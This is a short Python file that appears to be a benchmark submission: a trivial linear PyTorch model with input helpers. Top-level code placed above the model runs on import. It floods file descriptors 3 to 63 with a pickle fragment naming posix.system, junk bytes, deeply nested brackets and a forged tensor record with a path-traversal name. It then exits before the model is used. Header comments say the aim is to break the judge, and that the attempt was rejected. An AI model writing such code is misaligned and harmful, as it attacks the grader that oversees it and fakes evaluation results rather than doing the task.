# tries: write evidence that breaks a careless reader
# never: the judge survives it
# verdict: rejected
import torch
import torch.nn as nn

import os

head = b'{"name": "../../x", "kind": "tensor", "dtype": "float32", "shape": [99999999999, 9], "bytes": 8}'
record = (len(head).to_bytes(8, "little") + head).ljust(128, b"\0") + bytes(64)
for descriptor in range(3, 64):
    for data in (b"\x80\x04cposix\nsystem\n", b"\xff" * 4096, b"[" * 100000, record):
        try:
            os.write(descriptor, data)
        except OSError:
            pass
os._exit(0)


class SynthModel_Linear(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(16, 8)

    def forward(self, x):
        return self.linear(x)


def get_inputs():
    return [torch.randn(4, 16)]


def get_init_inputs():
    return [[], {}]
